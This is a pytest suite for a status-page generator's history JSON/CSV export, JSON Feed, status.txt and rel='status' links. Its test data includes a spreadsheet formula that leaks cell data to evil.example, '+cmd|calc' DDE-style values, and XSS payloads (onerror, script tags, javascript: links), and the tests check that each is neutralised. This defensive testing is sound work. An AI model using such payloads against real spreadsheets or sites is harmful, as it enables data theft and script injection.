"""The complete history as open data (api/history.json, its schema, api/history.csv), the
JSON Feed, status.txt and the RFC 8631 `rel="status"` link, read back as users' tools do.

JSON Feed is parsed with jsonfeed-util (a maintained parser for JSON Feed 1.1;
feedparser reads no JSON Feed), and compared with the Atom feed read by feedparser.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from urllib.parse import urljoin

import feedparser
import jsonfeed
import jsonschema
import pytest

from statuspage.outputs.history_export import render_history_export
from statuspage.outputs.render_cache import RenderCache
from statuspage.state.snapshot import Snapshot

from .conftest import EXAMPLE_INCIDENT, SiteDir, at, parse_html, write

BASE = "https://status.test.example/sub/"
HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
MAINTENANCE = """\
---
title: Database upgrade
maintenance:
  start: 2026-12-20 02:00
  end: 2026-12-20 03:00
components: [db]
---

## Scheduled · 2026-11-21 10:00 +01:00
We will upgrade the database.
"""


def blip(day: int, n: int, updates: int) -> str:
    """An incident of *updates* updates (2 or 3), resolved within the hour."""
    middle = f"## Identified · 2026-03-{day:02d} 1{n}:15\nFound it.\n\n" if updates == 3 else ""
    return f"""\
---
title: Blip {day} {n}
impact: minor
components: {{api: degraded_performance}}
---

## Resolved · 2026-03-{day:02d} 1{n}:30
Gone.

{middle}## Investigating · 2026-03-{day:02d} 1{n}:00
Slow.
"""


@pytest.fixture
def big_site(site_dir: SiteDir) -> SiteDir:
    """60 incidents (more than the v2 API's 50) with 2 or 3 updates each, and a maintenance."""
    for day in range(1, 31):
        for n in (1, 2):
            site_dir.incident(f"2026-03-{day:02d}-blip-{n}.md", blip(day, n, 2 + day % 2))
    site_dir.incident("2026-12-20-db.md", MAINTENANCE)
    return site_dir


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_history_json_holds_every_incident_and_update_and_matches_its_schema(
    big_site: SiteDir,
) -> None:
    out = big_site.build("2026-12-01 12:00")
    schema = json.loads((out / "api/history.schema.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    history = json.loads((out / "api/history.json").read_text(encoding="utf-8"))
    checker = jsonschema.Draft202012Validator.FORMAT_CHECKER
    jsonschema.Draft202012Validator(schema, format_checker=checker).validate(history)
    assert len(json.loads((out / "api/v2/incidents.json").read_bytes())["incidents"]) == 50
    records = {r["id"]: r for r in history["incidents"]}
    assert len(history["incidents"]) == len(records) == 61
    for day in range(1, 31):
        for n in (1, 2):
            record = records[f"2026-03-{day:02d}-blip-{n}"]
            assert [u["status"] for u in record["updates"]] == (
                ["investigating", "identified", "resolved"][:: 1 if day % 2 else 2]
            )
            assert record["duration_seconds"] == 30 * 60 and record["priority"] == 4
    record = records["2026-03-07-blip-2"]
    assert record["start"] == "2026-03-07T12:00:00+01:00"
    assert record["resolved"] == "2026-03-07T12:30:00+01:00"
    assert record["permalink"] == f"{BASE}incidents/2026-03-07-blip-2/"
    assert record["updates"][0]["permalink"].startswith(record["permalink"] + "#update-")
    update_ids = [u["id"] for r in history["incidents"] for u in r["updates"]]
    assert len(update_ids) == len(set(update_ids)) == 2 * (15 * 3 + 15 * 2) + 1
    maintenance = records["2026-12-20-db"]
    assert (maintenance["kind"], maintenance["status"], maintenance["priority"]) == (
        "maintenance", "scheduled", None,
    )  # fmt: skip
    # Every anchor a permalink names is on the incident page.
    page = parse_html(out / "incidents/2026-03-07-blip-2/index.html")
    for update in record["updates"]:
        assert page.get_element_by_id(update["permalink"].split("#")[1]) is not None


def test_history_csv_has_a_row_per_incident_and_no_formula(big_site: SiteDir) -> None:
    big_site.incident("2026-11-20-api-errors.md", EXAMPLE_INCIDENT)
    hostile = EXAMPLE_INCIDENT.replace("Elevated error rates on the API", f"'{HOSTILE_TITLE}'")
    big_site.incident("2026-11-21-evil.md", hostile.replace("2026-11-20", "2026-11-21"))
    for mark, name in (("+", "plus"), ("-", "minus"), ("@", "at")):
        title = f"'{mark}cmd|calc'" if mark != "@" else "'@SUM(1+1)'"
        day = len(name)
        big_site.incident(f"2026-03-0{day}-{name}.md", blip(day, 3, 2).replace(
            f"title: Blip {day} 3", f"title: {title}"))  # fmt: skip
    out = big_site.build("2026-12-01 12:00")
    raw = (out / "api/history.csv").read_bytes()
    assert raw.startswith("\ufeffid,title,".encode()) and raw.endswith(b"\r\n")
    rows = read_csv(out / "api/history.csv")
    assert list(rows[0]) == [
        "id", "title", "kind", "status", "start", "first_update", "resolved",
        "duration_seconds", "impact", "priority", "components", "permalink",
    ]  # fmt: skip
    assert len(rows) == 66 and len({r["id"] for r in rows}) == 66
    by_id = {r["id"]: r for r in rows}
    assert by_id["2026-11-20-api-errors"] == {
        "id": "2026-11-20-api-errors",
        "title": "Elevated error rates on the API",
        "kind": "incident",
        "status": "resolved",
        "start": "2026-11-20T14:02:00+01:00",
        "first_update": "2026-11-20T14:02:00+01:00",
        "resolved": "2026-11-20T15:10:00+01:00",
        "duration_seconds": str(68 * 60),
        "impact": "major",
        "priority": "P3",
        "components": "api dashboard",
        "permalink": f"{BASE}incidents/2026-11-20-api-errors/",
    }
    assert by_id["2026-12-20-db"]["priority"] == "" and by_id["2026-12-20-db"]["resolved"] == ""
    # A spreadsheet shows these as text: the apostrophe keeps them from being formulas.
    assert by_id["2026-11-21-evil"]["title"] == "'" + HOSTILE_TITLE
    assert by_id["2026-03-04-plus"]["title"] == "'+cmd|calc"
    assert by_id["2026-03-05-minus"]["title"] == "'-cmd|calc"
    assert by_id["2026-03-02-at"]["title"] == "'@SUM(1+1)"
    assert not [r for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@")]


def test_history_is_reused_until_an_incident_shows_something_new(big_site: SiteDir) -> None:
    """The outputs' keys name what each incident shows, never `now` itself."""
    site = big_site.load()

    def keys(now: str) -> dict[str, tuple[str, ...] | None]:
        outputs = render_history_export(Snapshot(site, at(now)), RenderCache())
        return {path: output.parts for path, output in outputs.items() if output.parts}

    assert set(keys("2026-12-01 12:00")) == {"api/history.json", "api/history.csv"}
    assert keys("2026-12-01 12:00") == keys("2026-12-15 12:00")  # nothing new in between
    assert keys("2026-12-15 12:00") != keys("2026-12-20 02:30")  # the window opened


def test_json_feed_has_an_item_per_update_agreeing_with_atom(site_dir: SiteDir) -> None:
    site_dir.incident("2026-11-20-api-errors.md", EXAMPLE_INCIDENT)
    site_dir.incident("2026-11-25-web.md", """\
        ---
        title: Dashboard <img src=x onerror=alert(1)> & "slow"
        impact: minor
        components: {dashboard: degraded_performance}
        ---

        ## Identified · 2026-11-25 09:30 +01:00
        A bad index. <script>alert(1)</script> [link](javascript:alert(1))

        ## Investigating · 2026-11-25 09:00 +01:00
        Pages load *slowly*.
        """)  # fmt: skip
    out = site_dir.build("2026-11-26 12:00")
    text = (out / "feed.json").read_text(encoding="utf-8")
    feed = jsonfeed.Feed.parse_string(text)
    assert json.loads(text)["version"] == "https://jsonfeed.org/version/1.1"
    assert feed.feed_url == f"{BASE}feed.json" and feed.home_page_url == BASE
    history = json.loads((out / "api/history.json").read_bytes())["incidents"]
    assert len(feed.items) == sum(len(r["updates"]) for r in history) == 5
    atom = feedparser.parse((out / "history.atom").read_bytes())
    assert [i.id for i in feed.items] == [e.id for e in atom.entries]
    assert [i.url for i in feed.items] == [e.link for e in atom.entries]
    assert [i.title for i in feed.items] == [e.title for e in atom.entries]
    assert [i.content_html for i in feed.items] == [e.content[0].value for e in atom.entries]
    newest = feed.items[0]
    assert newest.title == 'Dashboard <img src=x onerror=alert(1)> & "slow" — Identified'
    assert "<script" not in newest.content_html and "javascript:" not in newest.content_html
    assert "<p>A bad index." in newest.content_html
    # Per component, beside its Atom and RSS feeds: only what concerns it.
    db_feed = jsonfeed.Feed.parse_string((out / "components/api/feed.json").read_text("utf-8"))
    assert {i.url.split("/")[-2] for i in db_feed.items} == {"2026-11-20-api-errors"}
    for page in ("index.html", "history/index.html", "incidents/2026-11-25-web/index.html"):
        links = parse_html(out / page).xpath('//head/link[@type="application/feed+json"]')
        assert len(links) == 1 and urljoin(BASE + page, links[0].get("href")) == feed.feed_url


LONG_TITLE = "Payments " + "and invoices " * 15 + "are\u202e failing\x9b31m for\ttoo long"
LONG_BODY = (
    "We are looking into it.\u2066 " + "More words follow here " * 12 + "\n\n"
    + "x" * 150 + "\n\nSee **the dashboard** and [this link](https://example.com/a)."
)  # fmt: skip
CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def status_site(site_dir: SiteDir) -> SiteDir:
    site_dir.incident("2026-11-20-api-errors.md", EXAMPLE_INCIDENT)  # resolved: not listed
    site_dir.incident("2026-11-25-pay.md", f"""\
        ---
        title: "{LONG_TITLE.encode("unicode_escape").decode("ascii")}"
        impact: major
        components: {{api: partial_outage}}
        ---

        ## Identified · 2026-11-25 09:30 +01:00
        {LONG_BODY.replace(chr(10), chr(10) + " " * 8)}

        ## Investigating · 2026-11-25 09:00 +01:00
        Payments fail.
        """)  # fmt: skip
    site_dir.incident("2026-12-20-db.md", MAINTENANCE)
    return site_dir


def test_status_txt_fits_a_terminal_and_says_what_the_page_says(site_dir: SiteDir) -> None:
    out = status_site(site_dir).build("2026-11-26 12:00")
    data = (out / "status.txt").read_bytes()
    text = data.decode("utf-8")
    assert text.endswith("\n") and not text.endswith("\n\n")
    lines = text.splitlines()
    assert max(len(line) for line in lines) <= 80
    assert not CONTROLS.search(text) and "<" not in text and "**" not in text
    banner = parse_html(out / "index.html").get_element_by_id("overall").text_content().strip()
    assert lines[:2] == ["Test Status", banner] and banner == "Partial System Outage"
    flat = " ".join(text.split())
    assert "Active incidents * Payments and invoices" in flat
    assert "are failing31m for too long" in flat  # controls gone, the words kept
    assert "Identified · Nov 25, 2026, 09:30 CET We are looking into it. More words" in flat
    assert "x" * 78 in text and "See the dashboard and this link." in flat
    assert "Payments fail." not in text and "Elevated error rates" not in text
    assert f"  {BASE}incidents/2026-11-25-pay/" in lines
    assert "Scheduled maintenance * Database upgrade Scheduled · Nov 21, 2026, 10:00 CET" in flat
    assert "Window: Dec 20, 2026, 02:00 CET \N{EN DASH} Dec 20, 2026, 03:00 CET" in flat
    assert lines[-1] == BASE


def test_status_txt_is_translated_like_the_pages(tmp_path: Path) -> None:
    site_dir = status_site(SiteDir(tmp_path / "site"))
    config = (site_dir.root / "statuspage.yaml").read_text(encoding="utf-8")
    write(site_dir.root / "statuspage.yaml", config + "language: de\n")
    out = site_dir.build("2026-12-20 02:30")
    text = (out / "status.txt").read_text(encoding="utf-8")
    banner = parse_html(out / "index.html").get_element_by_id("overall").text_content().strip()
    assert text.splitlines()[1] == banner
    assert "Aktuelle Vorfälle" in text and "Laufende Wartungsarbeiten" in text
    assert "Das geplante Wartungsfenster hat begonnen." in text
    assert max(len(line) for line in text.splitlines()) <= 80


def test_rel_status_on_every_page_and_in_headers(site_dir: SiteDir) -> None:
    out = status_site(site_dir).build("2026-11-26 12:00")
    status_url = f"{BASE}api/v2/status.json"
    pages = [p for p in out.rglob("*.html") if "embed" not in p.relative_to(out).parts]
    assert len(pages) > 8
    for page in pages:
        rel = page.relative_to(out).as_posix()
        links = parse_html(page).xpath('//head/link[@rel="status"]')
        assert len(links) == 1, rel
        if rel != "404.html":  # served at any path: its links hold from the root only
            assert urljoin(BASE + rel, links[0].get("href")) == status_url, rel
    assert (out / "api/v2/status.json").is_file()
    headers = (out / "_headers").read_text(encoding="utf-8")
    assert f'/*\n  Link: <{status_url}>; rel="status"; type="application/json"\n' in headers


def test_new_outputs_are_byte_identical_for_the_same_input(
    big_site: SiteDir, tmp_path: Path
) -> None:
    status_site(big_site)
    first = big_site.build("2026-11-26 12:00", tmp_path / "a")
    second = big_site.build("2026-11-26 12:00", tmp_path / "b")
    for name in ("api/history.json", "api/history.csv", "feed.json", "status.txt"):
        assert (first / name).read_bytes() == (second / name).read_bytes(), name
    assert json.loads((first / "api/history.json").read_bytes())["incidents"][0]["id"] == (
        "2026-12-20-db"
    )
    text = io.StringIO((first / "api/history.csv").read_text(encoding="utf-8-sig"), newline="")
    assert sum(1 for _ in csv.reader(text)) == 1 + 63


def test_status_txt_shows_at_most_50_incidents_a_section(site_dir: SiteDir) -> None:
    for day in range(1, 31):
        for n in (1, 2):
            site_dir.incident(f"2026-03-{day:02d}-open-{n}.md", f"""\
                ---
                title: Open {day} {n}
                components: {{api: degraded_performance}}
                ---

                ## Investigating · 2026-03-{day:02d} 1{n}:00
                Slow.
                """)  # fmt: skip
    text = (site_dir.build("2026-04-01 12:00") / "status.txt").read_text(encoding="utf-8")
    shown = [line for line in text.splitlines() if line.startswith("* Open ")]
    assert len(shown) == 50 and shown[0] == "* Open 30 2"  # newest first, as on the page
    assert "\n\N{HORIZONTAL ELLIPSIS} +10\n\n" + BASE + "\n" in text


def test_status_txt_counts_wide_characters_as_two_columns(site_dir: SiteDir) -> None:
    import unicodedata

    config = (site_dir.root / "statuspage.yaml").read_text(encoding="utf-8")
    write(site_dir.root / "statuspage.yaml", config + "language: ja\n")
    title = "決済サービスで断続的なエラーが発生しており" + "現在調査を進めています" * 2
    site_dir.incident("2026-11-25-ja.md", f"""\
        ---
        title: {title}決済サービスで断続的なエラー
        components: {{api: partial_outage}}
        ---

        ## Investigating · 2026-11-25 09:00 +01:00
        一部のお客様で決済が失敗しています。原因を調査しており、分かり次第お知らせします。一部のお客様で決済が失敗しています。
        """)  # fmt: skip
    text = (site_dir.build("2026-11-26 12:00") / "status.txt").read_text(encoding="utf-8")

    def columns(line: str) -> int:
        return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in line)

    assert max(columns(line) for line in text.splitlines()) <= 80
    assert "".join(text.split()).count("決済サービスで断続的なエラー") == 2  # cut, nothing lost
